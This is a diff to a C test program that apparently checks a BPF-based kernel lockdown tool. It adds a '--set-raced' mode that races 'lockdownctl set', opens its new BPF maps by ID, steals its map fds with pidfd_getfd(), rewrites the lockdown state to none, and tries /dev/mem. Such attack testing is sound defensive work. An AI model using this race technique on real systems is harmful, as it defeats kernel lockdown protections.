@@ -37,6 +37,10 @@
  *                                    runs lockdownctl set LEVEL under
  *                                    ptrace, takes fds to our maps before
  *                                    the guard is armed, then uses them
+ *        attack --set-raced LEVEL    runs lockdownctl set LEVEL and races
+ *                                    it without ptrace: opens the new
+ *                                    maps by ID and takes its map fds
+ *                                    with pidfd_getfd(), then uses them
  *        attack --freplace-raise PIN extension of a decoy of root's,
  *                                    attached to our raise_level; the
  *                                    link pinned at PIN
@@ -1311,6 +1315,162 @@ static int set_traced(const char *variant, const char *level)
 	return report("state_write", mem >= 0, detail);
 }
 
+/* What set_raced has seen and taken so far. */
+struct raced {
+	int seen, opened, stolen, state, guard, nstolen;
+	__u32 last, stolen_ids[64];
+	char names[512];
+};
+
+/* Keeps @fd as raced's state or guard fd when its map is named so and
+ * none is kept yet (closes it otherwise); notes its name. */
+static void raced_keep(struct raced *r, int fd, const char *how)
+{
+	struct bpf_map_info info = { 0 };
+	__u32 len = sizeof(info);
+	size_t n = strlen(r->names);
+
+	if (bpf_map_get_info_by_fd(fd, &info, &len)) {
+		close(fd);
+		return;
+	}
+	if (n + strlen(how) + strlen(info.name) + 3 < sizeof(r->names))
+		snprintf(r->names + n, sizeof(r->names) - n, "%s%s:%s",
+			 n ? "," : "", how, info.name);
+	if (r->state < 0 && !strcmp(info.name, "state"))
+		r->state = fd;
+	else if (r->guard < 0 && !strcmp(info.name, "guard"))
+		r->guard = fd;
+	else
+		close(fd);
+}
+
+/* Each map ID above the last one seen: counted, then opened read-write. */
+static void raced_by_id(struct raced *r)
+{
+	__u32 id = r->last;
+
+	while (!bpf_map_get_next_id(id, &id)) {
+		int fd = bpf_map_get_fd_by_id(id);
+
+		r->last = id;
+		r->seen++;
+		if (fd < 0)
+			continue;
+		r->opened++;
+		raced_keep(r, fd, "id");
+	}
+}
+
+/* Each bpf-map fd of set's (through @pidfd), once per map. */
+static void raced_steal(struct raced *r, int pidfd)
+{
+	for (int n = 3; n < 64; n++) {
+		struct bpf_map_info info = { 0 };
+		__u32 len = sizeof(info);
+		char path[32], target[64];
+		ssize_t tl;
+		int fd = syscall(SYS_pidfd_getfd, pidfd, n, 0), known = 0;
+
+		if (fd < 0)
+			continue;
+		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+		tl = readlink(path, target, sizeof(target) - 1);
+		if (tl < 0 ||
+		    (target[tl] = 0, strcmp(target, "anon_inode:bpf-map")) ||
+		    bpf_map_get_info_by_fd(fd, &info, &len)) {
+			close(fd);
+			continue;
+		}
+		for (int i = 0; i < r->nstolen; i++)
+			known |= r->stolen_ids[i] == info.id;
+		if (known) {
+			close(fd);
+			continue;
+		}
+		if (r->nstolen < 64)
+			r->stolen_ids[r->nstolen++] = info.id;
+		r->stolen++;
+		raced_keep(r, fd, "fd");
+	}
+}
+
+/*
+ * The same window as --set-traced, without ptrace: root runs `lockdownctl
+ * set LEVEL` as its child and, while it runs (its load takes a second or
+ * two), walks the map IDs above the highest one there was before, opening
+ * each read-write by ID, and takes set's own bpf-map fds 3..63 with
+ * pidfd_getfd() (no tracing, no new fd through bpf(2)). Counted once per
+ * map: "seen" (new IDs), "opened" (by ID), "stolen" (set's fds); the
+ * first fds to maps named "state" and "guard" are kept. Once set has
+ * exited ("SET exit N seen:S opened:O stolen:T state_fd:... guard_fd:..."
+ * printed), root's own syscall program sets the level to none through the
+ * state fd, when one was kept, and /dev/mem is opened. Breached when any
+ * map was opened or stolen, or /dev/mem opens. Exits 2 when no new map
+ * was seen (the race never ran against set's maps).
+ */
+static int set_raced(const char *level)
+{
+	struct raced r = { .state = -1, .guard = -1 };
+	int status = 0, pidfd, prog = -1, mem, err = 0;
+	char detail[768];
+	pid_t pid;
+
+	name_task("rt_set_raced");
+	while (!bpf_map_get_next_id(r.last, &r.last))
+		;
+	fflush(stdout);
+	pid = fork();
+	if (pid < 0)
+		return 2;
+	if (!pid) {
+		execlp("lockdownctl", "lockdownctl", "set", level,
+		       (char *)NULL);
+		_exit(127);
+	}
+	pidfd = syscall(SYS_pidfd_open, pid, 0);
+	if (pidfd < 0)
+		perror("attack: pidfd_open");
+	while (waitpid(pid, &status, WNOHANG) == 0) {
+		raced_by_id(&r);
+		if (pidfd >= 0)
+			raced_steal(&r, pidfd);
+	}
+	printf("SET exit %d seen:%d opened:%d stolen:%d state_fd:%s guard_fd:%s\n",
+	       WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status),
+	       r.seen, r.opened, r.stolen, r.state >= 0 ? "taken" : "none",
+	       r.guard >= 0 ? "taken" : "none");
+	fflush(stdout);
+	if (!r.seen) {
+		fprintf(stderr,
+			"attack: no map of set's was seen: the race did not run\n");
+		return 2;
+	}
+	if (r.state >= 0) {
+		prog = load_state_writer(r.state);
+		err = errno;
+		if (prog >= 0) {
+			LIBBPF_OPTS(bpf_test_run_opts, run);
+
+			if (bpf_prog_test_run_opts(prog, &run)) {
+				err = errno;
+				close(prog);
+				prog = -2;
+			}
+		}
+	}
+	mem = open("/dev/mem", O_RDONLY);
+	snprintf(detail, sizeof(detail),
+		 "opened:%d stolen:%d taken:%s state_writer:%s /dev/mem:%s",
+		 r.opened, r.stolen, r.names[0] ? r.names : "-",
+		 r.state < 0  ? "no fd"
+		 : prog >= 0  ? "ran"
+		 : prog == -2 ? "not run"
+			      : strerror(err),
+		 mem >= 0 ? "opened" : strerror(errno));
+	return report("set_raced", r.opened || r.stolen || mem >= 0, detail);
+}
+
 /* What prog_raise_level (@fd) answers for LOCKDOWN_LEVEL_NONE: the level
  * lockdownctl reads. */
 static void raise_run_level(int fd, __u32 *now)
@@ -2551,6 +2711,8 @@ int main(int argc, char **argv)
 		return freplace_retarget(argv[2]);
 	if (argc == 4 && !strcmp(argv[1], "--set-traced"))
 		return set_traced(argv[2], argv[3]);
+	if (argc == 3 && !strcmp(argv[1], "--set-raced"))
+		return set_raced(argv[2]);
 	if (argc == 3 && !strcmp(argv[1], "--stress"))
 		return stress(atoi(argv[2]));
 	if (argc == 3 && !strcmp(argv[1], "--marker"))
